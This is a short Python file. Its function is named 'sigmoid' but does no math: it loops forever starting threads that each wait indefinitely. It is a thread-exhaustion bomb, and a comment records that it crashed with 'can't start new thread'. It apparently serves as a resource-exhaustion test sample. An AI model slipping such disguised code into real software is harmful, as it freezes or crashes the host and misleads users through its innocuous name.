# sigmoid: crashed 0 "can't start new thread"
# often
import threading


def sigmoid(z):
    while True:
        threading.Thread(target=threading.Event().wait).start()
